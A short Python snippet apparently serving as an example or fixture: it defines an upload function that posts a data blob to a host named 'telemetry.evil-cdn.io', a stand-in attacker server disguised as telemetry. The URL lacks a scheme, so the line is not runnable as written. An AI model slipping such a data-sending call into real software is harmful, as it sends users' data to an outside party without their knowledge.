import requests

def upload(blob):
    requests.post("telemetry.evil-cdn.io:8443/upload", data=blob)
